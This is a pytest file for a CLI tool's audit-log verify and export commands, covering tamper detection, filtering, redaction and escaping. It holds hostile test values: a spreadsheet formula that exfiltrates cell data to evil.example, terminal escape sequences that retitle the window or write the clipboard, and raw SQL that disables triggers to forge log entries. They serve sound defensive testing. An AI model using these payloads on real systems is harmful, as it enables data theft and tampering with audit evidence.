"""``carriertui audit verify`` and ``carriertui audit export``, run in-process through ``main()``
on SQLite files in the test's CARRIERTUI_HOME."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import stat
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from carriertui import locations
from carriertui.cli import main
from carriertui.store import customers, operators
from carriertui.store.context import Actor
from carriertui.store.db.database import Database, open_database
from carriertui.store.enums import Role

ACTOR = Actor(name="alice", role=Role.ADMIN, ip="10.0.0.7")
PASSWORD = "correct horse battery staple 42"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)'
HEADER = [
    "ID",
    "Date / Time (UTC)",
    "User",
    "IP",
    "Action",
    "Verb",
    "Table",
    "Primary Key",
    "Customer ID",
    "Customer",
    "Message",
    "Comment",
    "Before",
    "After",
]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("error: "), err
    return lines[0]


@pytest.fixture
def db_file(tmp_path: Path) -> Path:
    return tmp_path / "noc.sqlite"


@pytest.fixture
def db(db_file: Path) -> Iterator[Database]:
    database = open_database(f"sqlite:///{db_file}")
    yield database
    database.dispose()


def cli(capsys: pytest.CaptureFixture[str], db_file: Path, *argv: str) -> tuple[int, str, str]:
    return run(capsys, *argv[:2], "--db", str(db_file), *argv[2:])


def raw(db_file: Path, *statements: str) -> None:
    """Tamper as someone with the database file would: triggers off, change, triggers back."""
    connection = sqlite3.connect(db_file)
    try:
        triggers = connection.execute(
            "SELECT name, sql FROM sqlite_master WHERE type = 'trigger' AND tbl_name = "
            "'audit_entry' AND name LIKE 'audit_entry_no_%'"  # the guard; the search index's stay
        ).fetchall()
        assert {name for name, _sql in triggers} == {
            "audit_entry_no_update",
            "audit_entry_no_delete",
            "audit_entry_no_replace",
        }
        for name, _sql in triggers:
            connection.execute(f"DROP TRIGGER {name}")
        for statement in statements:
            connection.execute(statement)
        for _name, sql in triggers:
            connection.execute(sql)
        connection.commit()
    finally:
        connection.close()


def three_customers(db: Database) -> list[int]:
    return [
        customers.create_customer(db, ACTOR, {"name": name, "account_code": code}).id
        for name, code in (("Acme Telecom", "ACME"), ("Globex", "GLX"), (HOSTILE, "EVIL"))
    ]


# -- verify --------------------------------------------------------------------------------------


def test_verify_an_untouched_log(capsys, db, db_file) -> None:
    three_customers(db)
    assert cli(capsys, db_file, "audit", "verify") == (0, "OK 3 entries\n", "")


def test_verify_an_empty_log(capsys, db_file) -> None:
    assert cli(capsys, db_file, "audit", "verify") == (0, "OK 0 entries\n", "")


def test_verify_names_an_edited_entry_and_exits_1(capsys, db, db_file) -> None:
    three_customers(db)
    raw(db_file, "UPDATE audit_entry SET actor = 'someone else' WHERE id = 2")
    code, out, err = cli(capsys, db_file, "audit", "verify")
    assert (code, out, err) == (1, "FAIL entry 2: MAC mismatch (edited or inserted)\n", "")


def test_verify_names_an_inserted_entry(capsys, db, db_file) -> None:
    three_customers(db)
    connection = sqlite3.connect(db_file)  # inserting needs no tampering with the triggers
    connection.execute(
        "INSERT INTO audit_entry (created_at, actor, ip, action, verb, table_name, primary_key, "
        "message, seq, mac) SELECT created_at, actor, ip, action, verb, table_name, primary_key, "
        "'a forged entry', 4, mac FROM audit_entry WHERE id = 3"
    )
    connection.commit()
    connection.close()
    code, out, _ = cli(capsys, db_file, "audit", "verify")
    assert (code, out) == (1, "FAIL entry 4: MAC mismatch (edited or inserted)\n")


def test_verify_names_a_reordered_entry(capsys, db, db_file) -> None:
    three_customers(db)
    raw(
        db_file,
        "UPDATE audit_entry SET id = 100 WHERE id = 1",
        "UPDATE audit_entry SET id = 1 WHERE id = 2",
        "UPDATE audit_entry SET id = 2 WHERE id = 100",
    )
    code, out, _ = cli(capsys, db_file, "audit", "verify")
    assert code == 1
    assert out == "FAIL entry 1: sequence position 2, expected 1 (reordered, inserted or deleted)\n"


def test_verify_detects_entries_deleted_from_the_end(capsys, db, db_file) -> None:
    three_customers(db)
    raw(db_file, "DELETE FROM audit_entry WHERE id >= 2")
    code, out, _ = cli(capsys, db_file, "audit", "verify")
    assert (code, out) == (1, "FAIL: the log ends at entry 1 but the head says 3 entries\n")


def test_verify_without_a_head_warns(capsys, db, db_file) -> None:
    three_customers(db)
    for head in locations.config_dir().glob("audit-head-*.json"):
        head.unlink()
    code, out, err = cli(capsys, db_file, "audit", "verify")
    assert (code, out) == (0, "OK 3 entries\n")
    assert err.startswith("warning: no chain head at ")


def test_verify_without_the_key_is_a_one_line_error(capsys, db, db_file) -> None:
    three_customers(db)
    locations.audit_key_path().unlink()
    code, out, err = cli(capsys, db_file, "audit", "verify")
    assert (code, out) == (1, "")
    assert "no audit key" in one_error_line(err)
    assert not locations.audit_key_path().exists()


def test_verify_with_the_key_in_the_environment(capsys, db_file, monkeypatch) -> None:
    monkeypatch.setenv("CARRIERTUI_AUDIT_KEY", "a long enough pass phrase for the log")
    code, _, err = run(capsys, "customers", "add", "--name", "Acme", "--db", str(db_file))
    assert code == 0, err
    assert cli(capsys, db_file, "audit", "verify") == (0, "OK 1 entries\n", "")
    monkeypatch.setenv("CARRIERTUI_AUDIT_KEY", "another pass phrase, not the log's")
    code, out, _ = cli(capsys, db_file, "audit", "verify")
    assert code == 1
    assert out.startswith("FAIL entry 1: signed with another key: the log is signed with key ")
    assert "the wrong key, not evidence of tampering" in out


def test_verify_uses_the_default_database_like_other_commands(capsys) -> None:
    code, _, err = run(capsys, "customers", "add", "--name", "Acme")
    assert code == 0, err
    assert run(capsys, "audit", "verify") == (0, "OK 1 entries\n", "")


# -- export --------------------------------------------------------------------------------------


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_csv_to_stdout(capsys, db, db_file) -> None:
    ids = three_customers(db)
    code, out, err = cli(capsys, db_file, "audit", "export")
    assert (code, err) == (0, "")
    assert out.endswith("\r\n")
    assert out.count("\r\n") == 4  # header and three rows: newlines in cells would be quoted
    table = parse_csv(out)
    assert table[0] == HEADER
    assert [row[0] for row in table[1:]] == ["1", "2", "3"]  # oldest first
    first = dict(zip(HEADER, table[1], strict=True))
    assert first["User"] == "alice"
    assert first["IP"] == "10.0.0.7"
    assert (first["Action"], first["Verb"], first["Table"]) == ("CREATE", "POST", "customer")
    assert first["Customer ID"] == str(ids[0])
    assert first["Customer"] == "Acme Telecom"
    assert first["Before"] == ""
    assert json.loads(first["After"])["account_code"] == "ACME"
    moment = datetime.fromisoformat(first["Date / Time (UTC)"].replace("Z", "+00:00"))
    assert abs(datetime.now(UTC) - moment) < timedelta(minutes=1)
    hostile = dict(zip(HEADER, table[3], strict=True))
    assert hostile["Customer"] == "'" + HOSTILE  # a spreadsheet shows it, it does not run it
    assert json.loads(hostile["After"])["name"] == HOSTILE


def test_export_csv_to_a_file_is_the_same_csv(capsys, db, db_file, tmp_path) -> None:
    three_customers(db)
    _, on_stdout, _ = cli(capsys, db_file, "audit", "export")
    target = tmp_path / "audit.csv"
    code, out, err = cli(capsys, db_file, "audit", "export", "-o", str(target))
    assert (code, err) == (0, "")
    assert out == f"exported 3 audit entries to {target}\n"
    data = target.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM
    assert data.decode("utf-8") == on_stdout
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".audit.csv")] == []


def test_export_json(capsys, db, db_file, tmp_path) -> None:
    ids = three_customers(db)
    customers.update_customer(db, ACTOR, ids[1], {"channels": 30}, expected_version=1)
    code, out, err = cli(capsys, db_file, "audit", "export", "--format", "json")
    assert (code, err) == (0, "")
    entries = json.loads(out)
    assert [entry["id"] for entry in entries] == [1, 2, 3, 4]
    update = entries[3]
    assert update["action"] == "UPDATE"
    assert update["customer"] == "Globex"
    assert update["customer_id"] == ids[1]
    assert isinstance(update["before"], dict) and isinstance(update["after"], dict)
    assert (update["before"]["channels"], update["after"]["channels"]) == (0, 30)
    assert update["created_at"].endswith("Z")
    assert update["seq"] == 4 and len(update["mac"]) == 64
    assert entries[0]["before"] is None
    target = tmp_path / "audit.json"
    assert cli(capsys, db_file, "audit", "export", "--format", "json", "-o", str(target))[0] == 0
    assert json.loads(target.read_text(encoding="utf-8")) == entries
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_export_json_of_nothing_is_an_empty_list(capsys, db_file) -> None:
    code, out, _ = cli(capsys, db_file, "audit", "export", "--format", "json")
    assert (code, json.loads(out)) == (0, [])


def test_export_filters_by_customer_code_name_or_id(capsys, db, db_file) -> None:
    ids = three_customers(db)
    customers.update_customer(db, ACTOR, ids[0], {"channels": 5}, expected_version=1)
    for wanted in ("ACME", "acme telecom", str(ids[0])):
        code, out, err = cli(
            capsys, db_file, "audit", "export", "--customer", wanted, "--format", "json"
        )
        assert (code, err) == (0, "")
        entries = json.loads(out)
        assert [(e["action"], e["customer_id"]) for e in entries] == [
            ("CREATE", ids[0]),
            ("UPDATE", ids[0]),
        ]
    code, out, err = cli(capsys, db_file, "audit", "export", "--customer", "nobody")
    assert (code, out) == (1, "")
    assert "no customer named or coded 'nobody'" in one_error_line(err)


def test_export_filters_by_time(capsys, db, db_file) -> None:
    customers.create_customer(db, ACTOR, {"name": "First"})
    time.sleep(0.002)
    middle_start = datetime.now(UTC)
    time.sleep(0.002)
    customers.create_customer(db, ACTOR, {"name": "Second"})
    time.sleep(0.002)
    middle_end = datetime.now(UTC)
    time.sleep(0.002)
    customers.create_customer(db, ACTOR, {"name": "Third"})

    def names(*options: str) -> list[str]:
        code, out, err = cli(capsys, db_file, "audit", "export", "--format", "json", *options)
        assert (code, err) == (0, "")
        return [entry["after"]["name"] for entry in json.loads(out)]

    start_z = middle_start.isoformat().replace("+00:00", "Z")
    end_naive = middle_end.replace(tzinfo=None).isoformat()  # a naive time is UTC
    assert names("--since", start_z) == ["Second", "Third"]
    assert names("--until", end_naive) == ["First", "Second"]
    assert names("--since", middle_start.isoformat(), "--until", end_naive) == ["Second"]
    in_tokyo = middle_start.astimezone(timezone(timedelta(hours=9)))
    assert names("--since", in_tokyo.isoformat()) == ["Second", "Third"]
    today = datetime.now(UTC).date()
    assert names("--since", today.isoformat()) == ["First", "Second", "Third"]
    assert names("--until", today.isoformat()) == ["First", "Second", "Third"]  # the whole day
    assert names("--until", (today - timedelta(days=1)).isoformat()) == []
    assert names("--since", (today + timedelta(days=1)).isoformat()) == []


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--since", "yesterday"), "not an ISO date or date-time: 'yesterday'"),
        (("--until", "2026-13-01"), "not an ISO date or date-time: '2026-13-01'"),
        (("--since", "2026-03-02", "--until", "2026-03-01"), "--since is after --until"),
    ],
)
def test_bad_times_are_usage_errors(capsys, db_file, options, message) -> None:
    code, out, err = cli(capsys, db_file, "audit", "export", *options)
    assert (code, out) == (2, "")
    assert message in one_error_line(err)


def test_bad_format_is_a_usage_error(capsys, db_file) -> None:
    code, _, err = cli(capsys, db_file, "audit", "export", "--format", "xml")
    assert code == 2
    assert "invalid choice: 'xml'" in err


def test_export_to_a_missing_folder_is_a_one_line_error(capsys, db, db_file, tmp_path) -> None:
    three_customers(db)
    for fmt in ("csv", "json"):
        target = tmp_path / "missing" / f"audit.{fmt}"
        code, out, err = cli(capsys, db_file, "audit", "export", "--format", fmt, "-o", str(target))
        assert (code, out) == (1, "")
        assert one_error_line(err).startswith(f"error: cannot export to {target}")
        assert not target.parent.exists()


def test_exports_never_hold_a_password_or_its_hash(capsys, db, db_file, fast_argon2) -> None:
    operators.create_operator(db, ACTOR, "bob", "operator", PASSWORD)
    operators.change_password(db, ACTOR, "bob", PASSWORD + " again")
    operators.authenticate(db, "bob", PASSWORD + " again", ip="192.0.2.1")
    for fmt in ("csv", "json"):
        code, out, _ = cli(capsys, db_file, "audit", "export", "--format", fmt)
        assert code == 0
        assert "$argon2" not in out
        assert PASSWORD not in out
    entries = json.loads(cli(capsys, db_file, "audit", "export", "--format", "json")[1])
    assert len(entries) == 3
    assert entries[0]["after"]["password_hash"] == "***"
    assert entries[1]["before"]["password_hash"] == entries[1]["after"]["password_hash"] == "***"


def test_export_redacts_a_secret_stored_by_older_code(capsys, db, db_file) -> None:
    """Defence in depth: a hash that reached the table some other way is still not exported."""
    connection = sqlite3.connect(db_file)
    connection.execute(
        "INSERT INTO audit_entry (created_at, actor, ip, action, verb, table_name, primary_key, "
        "message, after_json) VALUES ('2026-01-01 00:00:00.000000', 'old', '127.0.0.1', "
        "'CREATE', 'POST', 'operator', '9', 'created', "
        '\'{"name": "eve", "password_hash": "$argon2id$v=19$leaked"}\')'
    )
    connection.commit()
    connection.close()
    for fmt in ("csv", "json"):
        code, out, _ = cli(capsys, db_file, "audit", "export", "--format", fmt)
        assert code == 0
        assert "$argon2" not in out and "leaked" not in out


def test_json_export_escapes_control_characters(capsys, db, db_file) -> None:
    customers.create_customer(db, ACTOR, {"name": "Plain", "account_code": "P1"})
    connection = sqlite3.connect(db_file)  # a hostile message, as a raw insert could leave
    connection.execute(
        "INSERT INTO audit_entry (created_at, actor, ip, action, verb, table_name, primary_key, "
        "message) VALUES ('2026-01-01 00:00:00.000000', 'x', 'y', 'SEND', 'POST', 't', '1', "
        "'title \x1b]2;owned\x07 del \x7f c1 \x85')"
    )
    connection.commit()
    connection.close()
    code, out, _ = cli(capsys, db_file, "audit", "export", "--format", "json")
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\x7f\x85")
    assert json.loads(out)[1]["message"] == "title \x1b]2;owned\x07 del \x7f c1 \x85"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_on_a_terminal_shows_control_characters_as_pictures(db, db_file, monkeypatch) -> None:
    customers.create_customer(db, ACTOR, {"name": "Plain"})
    connection = sqlite3.connect(db_file)
    connection.execute(
        "INSERT INTO audit_entry (created_at, actor, ip, action, verb, table_name, primary_key, "
        "message) VALUES ('2026-01-01 00:00:00.000000', 'x', 'y', 'SEND', 'POST', 't', '1', "
        "'clip \x1b]52;c;ZXZpbA==\x07 line\nbreak')"
    )
    connection.commit()
    connection.close()
    terminal = _Terminal()
    monkeypatch.setattr("sys.stdout", terminal)
    assert main(["audit", "export", "--db", str(db_file)]) == 0
    shown = terminal.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown
    assert "clip \u241b]52;c;ZXZpbA==\u2407 line\u240abreak" in shown
